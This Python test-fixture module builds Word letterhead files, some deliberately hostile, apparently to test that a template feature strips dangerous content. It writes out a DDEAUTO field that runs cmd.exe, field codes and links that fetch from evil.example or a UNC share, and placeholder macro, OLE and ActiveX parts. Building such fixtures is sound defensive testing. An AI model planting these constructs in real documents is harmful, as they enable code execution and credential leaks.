"""Letterhead files for the template tests: good ones, broken ones and hostile ones."""

import io
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

import docx
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import qn
from docx.shared import Pt

DOCUMENT_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TEMPLATE_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
EVIL = "http://evil.example/steal"
ATTACHED_TEMPLATE = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
)


def letterhead(path: Path, *, header_on_every_page: bool = True) -> Path:
    """A letterhead: an organisation block in the body, text in the header, its own style."""
    doc = docx.Document()
    doc.styles["Normal"].font.name = "Arial"  # the office's own font for its blank
    name_style = doc.styles.add_style("Letterhead Name", 1)
    name_style.font.size = Pt(16)
    doc.add_paragraph("ТОО «Бланк и партнёры»", name_style)
    doc.add_paragraph("г. Астана, ул. Бейбітшілік, 1")
    doc.add_paragraph("")  # trailing empty paragraphs must not push our text down
    doc.add_paragraph("")
    section = doc.sections[0]
    if header_on_every_page:
        section.header.paragraphs[0].text = "БЛАНК ОРГАНИЗАЦИИ"
    else:
        section.different_first_page_header_footer = True
        section.first_page_header.paragraphs[0].text = "БЛАНК НА ПЕРВОЙ СТРАНИЦЕ"
        section.header.paragraphs[0].text = "Протокол заседания"
    section.footer.paragraphs[0].text = "Подвал бланка"
    doc.core_properties.author = "Evil Author"
    doc.save(str(path))
    return path


def with_our_style_restyled(path: Path) -> Path:
    """An office that restyled our "Minutes Text" in its letterhead (13 pt Arial)."""
    doc = docx.Document()
    style = doc.styles.add_style("Minutes Text", 1)
    style.font.size = Pt(13)
    style.font.name = "Arial"
    doc.save(str(path))
    return path


def hostile(path: Path) -> Path:
    """External template, hyperlink and picture links, a macro project, custom properties."""
    doc = docx.Document()
    part = doc.part
    paragraph = doc.add_paragraph("Сайт: ")
    link = OxmlElement("w:hyperlink")
    link.set(qn("r:id"), part.relate_to(EVIL, RT.HYPERLINK, is_external=True))
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "evil-link-text"
    run.append(text)
    link.append(run)
    paragraph._p.append(link)
    picture_rid = part.relate_to(EVIL + ".png", RT.IMAGE, is_external=True)
    paragraph._p.append(parse_xml(
        '<w:r xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        'xmlns:v="urn:schemas-microsoft-com:vml" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        f'<w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="{picture_rid}"/>'
        "</v:shape></w:pict></w:r>"))
    settings = doc.settings.element
    attached = OxmlElement("w:attachedTemplate")
    settings_part = doc.part._settings_part
    attached.set(qn("r:id"), settings_part.relate_to(EVIL + ".dotm", ATTACHED_TEMPLATE,
                                                     is_external=True))
    settings.insert_element_before(attached, "w:defaultTabStop", "w:characterSpacingControl",
                                   "w:compat")
    package = part.package
    vba = Part(PackURI("/word/vbaProject.bin"), "application/vnd.ms-office.vbaProject",
               b"Evil macro bytes", package)
    part.relate_to(vba, "http://schemas.microsoft.com/office/2006/relationships/vbaProject")
    custom = Part(PackURI("/docProps/custom.xml"),
                  "application/vnd.openxmlformats-officedocument.custom-properties+xml",
                  b'<?xml version="1.0"?><Properties xmlns="http://schemas.openxmlformats.org/'
                  b'officeDocument/2006/custom-properties">Evil Custom</Properties>', package)
    package.relate_to(custom, RT.CUSTOM_PROPERTIES)
    doc.core_properties.author = "Evil Author"
    doc.core_properties.last_modified_by = "Evil Editor"
    doc.save(str(path))
    return path


def rewritten(source: Path, target: Path, changes: dict[str, bytes | None]) -> Path:
    """A copy of a package with some members replaced or added (bytes) or left out (None)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(buffer, "w") as new:
        for info in old.infolist():
            if info.filename in changes:
                if changes[info.filename] is not None:
                    new.writestr(info.filename, changes[info.filename])
            else:
                new.writestr(info, old.read(info))
        for name in set(changes) - set(old.namelist()):  # new members
            if changes[name] is not None:
                new.writestr(name, changes[name])
    target.write_bytes(buffer.getvalue())
    return target


def with_main_type(source: Path, target: Path, content_type: str) -> Path:
    with zipfile.ZipFile(source) as package:
        types = package.read("[Content_Types].xml").decode()
    return rewritten(source, target,
                     {"[Content_Types].xml": types.replace(DOCUMENT_TYPE, content_type).encode()})


# --- letterheads with live links, active content and people's traces (issue 7) -------------
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS_REL = "http://schemas.microsoft.com/office"
UNC = "\\\\evil-server\\share"
LETTERHEAD_PEOPLE = ("Letterhead Author", "Letterhead Editor", "Letterhead Reviewer",
                     "Letterhead Commenter", "Evil Company LLC", "Letterhead Custom Person")


def complex_field(*instruction: str, result: str | None) -> str:
    """A complex field as Word writes it; the instruction may be split over several runs."""
    code = "".join(f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>'
                   for part in instruction)
    shown = "" if result is None else (
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t xml:space="preserve">{result}</w:t></w:r>')
    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{code}{shown}'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def simple_field(instruction: str, result: str) -> str:
    return (f"<w:fldSimple w:instr={quoteattr(instruction)}><w:r>"
            f'<w:t xml:space="preserve">{result}</w:t></w:r></w:fldSimple>')


def paragraph(*content: str) -> str:
    return f"<w:p>{''.join(content)}</w:p>"


def live_links(path: Path) -> Path:
    """Field codes that fetch content from elsewhere, in the body, the header and the footer;
    a UNC attached template and a UNC picture link."""
    body = [
        paragraph(complex_field(f' INCLUDEPICTURE "{UNC}\\\\logo.png" \\\\d ',
                                result="cached-picture")),
        paragraph(complex_field(" INCLUDE", 'TEXT "http://evil.example/a.docx" ',
                                result="cached-included")),
        paragraph(simple_field(f' LINK Excel.Sheet.8 "{UNC}\\\\data.xls" Sheet1!R1C1 \\a ',
                               "cached-link")),
        paragraph(simple_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
                               "cached-ddeauto")),
        paragraph(complex_field(" DDE WinWord evil-dde-topic ", result=None), "<w:r><w:t>"
                  "after-dde</w:t></w:r>"),
        paragraph(complex_field(" HYPERLINK \"http://evil.example/\" ",
                                result="cached-hyperlink")),
        # a live field nested in the result of a harmless one
        paragraph(complex_field(" QUOTE ", result="outer-")[:-len(
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>')],
            complex_field(" INCLUDETEXT \"http://evil.example/n.docx\" ", result="nested"),
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'),
        # a field that never ends
        paragraph(complex_field(' INCLUDETEXT "http://evil.example/u.docx" ', result=None)[
            :-len('<w:r><w:fldChar w:fldCharType="end"/></w:r>')],
            "<w:r><w:t>after-unterminated</w:t></w:r>"),
    ]
    header = [paragraph(complex_field(f' INCLUDEPICTURE "{UNC}\\\\head.png" ',
                                      result="header-cached")),
              paragraph(simple_field(" DDE Excel evil-sheet ", "header-dde-cached"))]
    footer = [paragraph(simple_field(' INCLUDETEXT "http://evil.example/f.docx" ',
                                     "footer-cached")),
              paragraph(complex_field(f' LINK Word.Document.12 "{UNC}\\\\f.docx" ',
                                      result="footer-link-cached"))]
    picture = ('<w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata '
               f'r:id="rIdLinked" o:href="file:///{UNC}/linked.png"/></v:shape></w:pict></w:r>')
    return patched(
        letterhead(path.with_suffix(".base.docx")), path,
        body="".join(body) + paragraph(picture), header="".join(header),
        footer="".join(footer),
        rels={"word/document.xml": [("rIdLinked", f"{REL}/image", f"{UNC}\\linked.png", True)],
              "word/settings.xml": [("rIdUnc", ATTACHED_TEMPLATE, f"file:///{UNC}/t.dotm",
                                     True)]},
        settings='<w:attachedTemplate r:id="rIdUnc"/>')


def active_content(path: Path) -> Path:
    """An OLE object, an ActiveX control, altChunk, comments with their people, vbaData,
    tracked changes in the body and the header, and change tracking switched on."""
    author = 'w:author="Letterhead Reviewer" w:date="2025-01-01T00:00:00Z"'
    body = [
        paragraph('<w:r><w:object><v:shape id="ole1" style="width:10pt;height:10pt"/>'
                  '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="ole1" r:id="rIdOle"/>'
                  "</w:object></w:r>", "<w:r><w:t>after-ole</w:t></w:r>"),
        paragraph('<w:r><w:object><w:control r:id="rIdAx" w:name="EvilControl"/></w:object>'
                  "</w:r>"),
        '<w:altChunk r:id="rIdAlt"/>',
        paragraph('<w:commentRangeStart w:id="0"/><w:r><w:t>commented</w:t></w:r>'
                  '<w:commentRangeEnd w:id="0"/><w:r><w:rPr><w:rStyle w:val="CommentReference"'
                  '/></w:rPr><w:commentReference w:id="0"/></w:r>'),
        paragraph(f'<w:pPr><w:pPrChange w:id="1" {author}><w:pPr/></w:pPrChange></w:pPr>',
                  f'<w:ins w:id="2" {author}><w:r><w:t>accepted-insert</w:t></w:r></w:ins>',
                  f'<w:del w:id="3" {author}><w:r><w:delText>rejected-deletion</w:delText>'
                  "</w:r></w:del>",
                  f'<w:r><w:rPr><w:b/><w:rPrChange w:id="4" {author}><w:rPr/></w:rPrChange>'
                  '</w:rPr><w:t xml:space="preserve"> kept</w:t></w:r>'),
        paragraph(f'<w:moveFrom w:id="7" {author}><w:r><w:t>moved-away</w:t></w:r>'
                  "</w:moveFrom>",
                  f'<w:moveTo w:id="8" {author}><w:r><w:t>moved-here</w:t></w:r></w:moveTo>'),
        "<w:tbl><w:tblPr><w:tblW w:w=\"0\" w:type=\"auto\"/></w:tblPr><w:tblGrid>"
        '<w:gridCol w:w="2000"/></w:tblGrid>'
        '<w:tr><w:tc><w:p><w:r><w:t>kept-row</w:t></w:r></w:p></w:tc></w:tr>'
        f'<w:tr><w:trPr><w:del w:id="9" {author}/></w:trPr><w:tc><w:p><w:del w:id="10" '
        f"{author}><w:r><w:delText>deleted-row</w:delText></w:r></w:del></w:p></w:tc></w:tr>"
        f'<w:tr><w:trPr><w:ins w:id="11" {author}/></w:trPr><w:tc><w:p><w:ins w:id="12" '
        f"{author}><w:r><w:t>inserted-row</w:t></w:r></w:ins></w:p></w:tc></w:tr></w:tbl>",
    ]
    header = paragraph(f'<w:ins w:id="5" {author}><w:r><w:t>header-insert</w:t></w:r></w:ins>',
                       f'<w:del w:id="6" {author}><w:r><w:delText>header-deletion</w:delText>'
                       "</w:r></w:del>")
    comments = (f'<w:comments xmlns:w="{W_NS}"><w:comment w:id="0" w:author="Letterhead '
                'Commenter" w:initials="LC"><w:p><w:r><w:t>Secret comment</w:t></w:r></w:p>'
                "</w:comment></w:comments>").encode()
    w15 = "http://schemas.microsoft.com/office/word/2012/wordml"
    people = (f'<w15:people xmlns:w15="{w15}"><w15:person w15:author="Letterhead Commenter">'
              '<w15:presenceInfo w15:providerId="None" w15:userId="Letterhead Commenter"/>'
              "</w15:person></w15:people>").encode()
    word = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    return patched(
        letterhead(path.with_suffix(".base.docx")), path,
        body="".join(body), header=header, settings="<w:trackRevisions/>",
        rels={"word/document.xml": [
            ("rIdOle", f"{REL}/oleObject", "embeddings/oleObject1.bin", False),
            ("rIdAx", f"{REL}/control", "activeX/activeX1.xml", False),
            ("rIdAlt", f"{REL}/aFChunk", "afchunk.mht", False),
            ("rIdCm", f"{REL}/comments", "comments.xml", False),
            ("rIdPp", f"{MS_REL}/2011/relationships/people", "people.xml", False),
            ("rIdVd", f"{MS_REL}/2006/relationships/wordVbaData", "vbaData.xml", False)],
            "word/activeX/activeX1.xml": [
                ("rIdBin", f"{MS_REL}/2006/relationships/activeXControlBinary",
                 "activeX1.bin", False)]},
        parts={
            "word/embeddings/oleObject1.bin": ("application/vnd.openxmlformats-"
                                               "officedocument.oleObject", b"Evil OLE bytes"),
            "word/activeX/activeX1.xml": ("application/vnd.ms-office.activeX+xml",
                                          b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/'
                                          b'office/2006/activeX" ax:classid="{evil}"/>'),
            "word/activeX/activeX1.bin": ("application/vnd.ms-office.activeX",
                                          b"Evil ActiveX bytes"),
            "word/afchunk.mht": ("message/rfc822", b"Evil altChunk text"),
            "word/comments.xml": (f"{word}.comments+xml", comments),
            "word/people.xml": ("application/vnd.openxmlformats-officedocument."
                                "wordprocessingml.people+xml", people),
            "word/vbaData.xml": ("application/vnd.ms-word.vbaData+xml",
                                 b'<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/'
                                 b'office/word/2006/wordml">Evil vbaData</wne:vbaSuppData>'),
        })


def with_people(path: Path) -> Path:
    """A letterhead whose properties name its author, editor and company, with custom
    properties and a comment."""
    source = hostile(path.with_suffix(".hostile.docx"))
    doc = docx.Document(str(source))
    doc.core_properties.author = "Letterhead Author"
    doc.core_properties.last_modified_by = "Letterhead Editor"
    doc.core_properties.comments = "Letterhead Commenter was here"
    doc.save(str(source))
    with zipfile.ZipFile(source) as package:
        app = package.read("docProps/app.xml").decode()
    app = app.replace("</Properties>", "<Company>Evil Company LLC</Company>"
                      "<Manager>Letterhead Author</Manager></Properties>")
    custom = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties xmlns='
              '"http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
              'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
              '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Owner">'
              "<vt:lpwstr>Letterhead Custom Person</vt:lpwstr></property></Properties>")
    rewritten(source, path.with_suffix(".props.docx"),
              {"docProps/app.xml": app.encode(), "docProps/custom.xml": custom.encode()})
    return patched(path.with_suffix(".props.docx"), path, body=paragraph(
        '<w:commentRangeStart w:id="0"/><w:r><w:t>commented</w:t></w:r>'
        '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>'),
        rels={"word/document.xml": [("rIdCm", f"{REL}/comments", "comments.xml", False)]},
        parts={"word/comments.xml": (
            "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml",
            (f'<w:comments xmlns:w="{W_NS}"><w:comment w:id="0" w:author="Letterhead '
             'Commenter"><w:p><w:r><w:t>A comment</w:t></w:r></w:p></w:comment>'
             "</w:comments>").encode())})


def patched(source: Path, target: Path, *, body: str = "", header: str = "", footer: str = "",
            settings: str = "", rels: dict[str, list[tuple[str, str, str, bool]]] | None = None,
            parts: dict[str, tuple[str, bytes]] | None = None) -> Path:
    """A copy of `source` with XML put into its body (before the section properties), its
    header and footer (at the end), its settings (at the start), relationships added to
    parts (id, type, target, external) and new parts (content type, bytes)."""
    with zipfile.ZipFile(source) as package:
        members = {info.filename: package.read(info) for info in package.infolist()}

    def edit(name: str, old: str, new: str) -> None:
        text = members[name].decode()
        assert old in text, (name, old)
        members[name] = text.replace(old, new, 1).encode()

    if body:
        edit("word/document.xml", "<w:sectPr", body + "<w:sectPr")
    if header:
        edit("word/header1.xml", "</w:hdr>", header + "</w:hdr>")
    if footer:
        edit("word/footer1.xml", "</w:ftr>", footer + "</w:ftr>")
    if settings:
        edit("word/settings.xml", "<w:zoom", settings + "<w:zoom")
    for name, (content_type, data) in (parts or {}).items():
        members[name] = data
        edit("[Content_Types].xml", "</Types>",
             f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>')
    for owner, relationships in (rels or {}).items():
        folder, file = owner.rsplit("/", 1)
        rels_name = f"{folder}/_rels/{file}.rels"
        members.setdefault(rels_name, (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
            b'"http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        ))
        added = "".join(
            f'<Relationship Id="{rid}" Type="{kind}" Target="{escape(target)}"'
            + (' TargetMode="External"' if external else "") + "/>"
            for rid, kind, target, external in relationships)
        edit(rels_name, "</Relationships>", added + "</Relationships>")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in members.items():
            package.writestr(name, data)
    target.write_bytes(buffer.getvalue())
    return target
